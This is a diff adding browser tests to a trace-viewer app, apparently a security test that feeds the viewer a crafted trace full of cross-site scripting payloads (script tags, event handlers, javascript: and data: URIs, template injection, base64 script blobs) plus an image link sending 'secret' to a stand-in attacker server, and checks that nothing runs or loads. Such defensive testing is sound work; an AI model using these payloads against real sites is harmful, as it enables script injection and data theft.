@@ -291,3 +291,148 @@ def test_a_file_of_many_traces_draws_only_the_rows_on_screen(driver, app_url, tm
     driver.find_elements(By.CSS_SELECTOR, ".sl-trace-row__name")[0].click()
     wait_for(driver, "[data-testid=waterfall]")
     assert console_errors(driver) == []
+
+
+def xss_payloads(attacker: str):
+    """What a hostile trace writes into every string it has: markup that
+    runs script, addresses that load or run, style breakers, direction
+    overrides and a 100 KB line without a space."""
+    return [
+        "<script>window.__xss = 1</script>",
+        '<img src=x onerror="window.__xss = 2">',
+        '<svg onload="window.__xss = 3"></svg>',
+        '"><img src=x onerror=window.__xss=4>',
+        "javascript:window.__xss = 5",
+        "data:text/html,<script>window.__xss = 6</script>",
+        "</style><style>* { display: none !important }</style>",
+        "<iframe src=\"javascript:window.__xss = 7\"></iframe>",
+        f'<link rel="stylesheet" href="{attacker}/style.css">',
+        "\u202eevil\u202c \u200f\u2066rtl\u2069",
+        "{{constructor.constructor('window.__xss = 8')()}}",
+        "x" * 100_000,
+    ]
+
+
+def xss_trace(path: pathlib.Path, attacker: str) -> pathlib.Path:
+    payloads = xss_payloads(attacker)
+    markdown = "\n\n".join([
+        *payloads[:9],
+        f"[click](javascript:window.__xss=9) [data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTA8L3NjcmlwdD4=)",
+        f"![<img src=x onerror=window.__xss=11>]({attacker}/exfil.png?d=secret)",
+        f"![alt](javascript:window.__xss=12) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xMyI+PC9zdmc+)",
+        "> " * 200 + "deep",
+    ])
+    def attributes(prefix):
+        return [{"key": f"{prefix}.{i}.{p[:200]}", "value": {"stringValue": p}} for i, p in enumerate(payloads)] + [
+            {"key": f"{prefix}.list", "value": {"arrayValue": {"values": [{"stringValue": p} for p in payloads]}}},
+            {"key": f"{prefix}.map", "value": {"kvlistValue": {"values": [{"key": p[:100], "value": {"stringValue": p}} for p in payloads]}}},
+        ]
+    tool_arguments = json.dumps({p[:50]: p for p in payloads})
+    messages_in = [{"role": "user", "parts": [
+        {"type": "text", "content": markdown},
+        {"type": "uri", "modality": "image", "mime_type": "text/html", "uri": "javascript:window.__xss=14"},
+        {"type": "uri", "modality": "image", "mime_type": "image/png", "uri": f"{attacker}/media.png"},
+        {"type": "blob", "modality": "image", "mime_type": "text/html", "content": "PHNjcmlwdD53aW5kb3cuX194c3M9MTU8L3NjcmlwdD4="},
+    ]}]
+    messages_out = [{"role": "assistant", "parts": [
+        {"type": "text", "content": markdown},
+        {"type": "tool_call", "id": payloads[1], "name": payloads[0], "arguments": tool_arguments},
+    ], "finish_reason": payloads[2]}]
+    trace_a, trace_b = "0af7651916cd43dd8448eb211c80319c", "1af7651916cd43dd8448eb211c80319c"
+    spans = []
+    for t, trace_id in enumerate([trace_a, trace_b]):
+        root = f"{t + 1:016x}"
+        spans.append({"traceId": trace_id, "spanId": root, "name": payloads[t],
+                      "startTimeUnixNano": "1000", "endTimeUnixNano": "90000",
+                      "status": {"code": 2, "message": payloads[1]},
+                      "attributes": attributes("span"),
+                      "events": [{"name": p[:300], "timeUnixNano": "2000", "attributes": [
+                          {"key": "exception.message", "value": {"stringValue": p}},
+                          {"key": "exception.stacktrace", "value": {"stringValue": p}}]} for p in payloads],
+                      "links": [{"traceId": trace_b, "spanId": f"{2:016x}", "attributes": attributes("link")[:3]}]})
+        for i, p in enumerate(payloads[:6]):
+            spans.append({"traceId": trace_id, "spanId": f"{(t + 1) * 100 + i:016x}", "parentSpanId": root, "name": p,
+                          "startTimeUnixNano": str(3000 + i), "endTimeUnixNano": str(8000 + i),
+                          "attributes": [{"key": "gen_ai.operation.name", "value": {"stringValue": "chat"}},
+                                         {"key": "gen_ai.request.model", "value": {"stringValue": p}},
+                                         {"key": "gen_ai.input.messages", "value": {"stringValue": json.dumps(messages_in)}},
+                                         {"key": "gen_ai.output.messages", "value": {"stringValue": json.dumps(messages_out)}}]})
+        spans.append({"traceId": trace_id, "spanId": f"{(t + 1) * 100 + 50:016x}", "parentSpanId": root,
+                      "name": "execute_tool " + payloads[0], "startTimeUnixNano": "9000", "endTimeUnixNano": "9500",
+                      "attributes": [{"key": "gen_ai.operation.name", "value": {"stringValue": "execute_tool"}},
+                                     {"key": "gen_ai.tool.name", "value": {"stringValue": payloads[0]}},
+                                     {"key": "gen_ai.tool.call.id", "value": {"stringValue": payloads[1]}},
+                                     {"key": "gen_ai.tool.call.arguments", "value": {"stringValue": tool_arguments}},
+                                     {"key": "gen_ai.tool.call.result", "value": {"stringValue": markdown}}]})
+    resource = {"attributes": [{"key": "service.name", "value": {"stringValue": payloads[3]}}] + attributes("resource")}
+    return write_json(path, {"resourceSpans": [{"resource": resource, "scopeSpans": [
+        {"scope": {"name": payloads[0], "version": payloads[1], "attributes": attributes("scope")}, "spans": spans}]}]})
+
+
+LAYOUT_OVERFLOW = """
+const width = window.innerWidth;
+const clips = (e) => ['auto', 'scroll', 'hidden', 'clip'].includes(getComputedStyle(e).overflowX);
+const wide = [];
+for (const element of document.querySelectorAll('body *')) {
+  const box = element.getBoundingClientRect();
+  if (box.width <= width + 1 && box.right <= width + 1) continue;
+  let ancestor = element.parentElement, clipped = false;
+  while (ancestor && ancestor !== document.body) {
+    if (clips(ancestor) && ancestor.getBoundingClientRect().right <= width + 1) { clipped = true; break; }
+    ancestor = ancestor.parentElement;
+  }
+  if (!clipped) wide.push(element.tagName + '.' + element.className + ' ' + Math.round(box.width));
+}
+return {wide: wide.slice(0, 10), page: document.documentElement.scrollWidth, width};
+"""
+
+
+def assert_unharmed(driver, attacker: RecordingServer, app_url: str, where: str):
+    assert driver.execute_script("return window.__xss === undefined"), f"a payload ran ({where})"
+    sources = driver.execute_script("return [...document.querySelectorAll('img, iframe, object, embed, script[src]')].map(e => e.tagName + ' ' + (e.src || e.data || ''))")
+    unexpected = [s for s in sources if not (s.startswith("IMG blob:") or s.startswith("IMG data:image/"))]
+    assert unexpected == [], f"{where}: {unexpected}"
+    layout = driver.execute_script(LAYOUT_OVERFLOW)
+    assert layout["page"] <= layout["width"] and layout["wide"] == [], f"{where}: {layout}"
+    assert attacker.requests == [], f"{where}: {attacker.requests}"
+    origin = app_url.rstrip("/")
+    loaded = driver.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
+    outside = [name for name in loaded if not (name.startswith(origin) or name.startswith(("blob:", "data:")))]
+    assert outside == [], f"{where}: requests left the app's origin: {outside}"
+
+
+def test_the_xss_battery_runs_nothing_loads_nothing_and_keeps_the_layout(driver, app_url, tmp_path: pathlib.Path, artifacts):
+    attacker = RecordingServer()
+    try:
+        path = xss_trace(tmp_path / "xss-battery.json", attacker.url)
+        open_files(driver, app_url, path)
+        wait_text(driver, "[data-testid=trace-list-summary]", "2 traces")
+        assert_unharmed(driver, attacker, app_url, "the trace list")
+        driver.find_elements(By.CSS_SELECTOR, ".sl-trace-row__name")[0].click()
+        wait_for(driver, "[data-testid=waterfall]")
+        assert_unharmed(driver, attacker, app_url, "the waterfall")
+        rows = driver.find_elements(By.CSS_SELECTOR, "[data-testid=waterfall] [role=row]")
+        assert len(rows) == 8
+        for index in range(len(rows)):
+            row = driver.find_elements(By.CSS_SELECTOR, "[data-testid=waterfall] [role=row]")[index]
+            row.click()
+            wait_for(driver, "[data-testid=inspector]")
+            for tab in ["tab-messages", "tab-attributes", "tab-events", "tab-raw"]:
+                buttons = driver.find_elements(By.CSS_SELECTOR, f"[data-testid={tab}]")
+                if buttons:
+                    buttons[0].click()
+                    assert_unharmed(driver, attacker, app_url, f"row {index}, {tab}")
+                    if index == 1 and tab == "tab-messages":
+                        driver.save_screenshot(str(artifacts / "xss-battery-messages.png"))
+        search = driver.find_element(By.CSS_SELECTOR, "[data-testid=search]")
+        search.send_keys("<script>")
+        assert_unharmed(driver, attacker, app_url, "a search")
+        driver.find_element(By.CSS_SELECTOR, "[data-testid=view-conversation]").click()
+        wait_for(driver, "[data-testid=conversation]")
+        assert_unharmed(driver, attacker, app_url, "the Conversation view")
+        driver.save_screenshot(str(artifacts / "xss-battery-conversation.png"))
+        # Nothing ran that opened a dialog: the page still answers scripts.
+        assert driver.execute_script("return 1") == 1
+        assert console_errors(driver) == []
+    finally:
+        attacker.close()
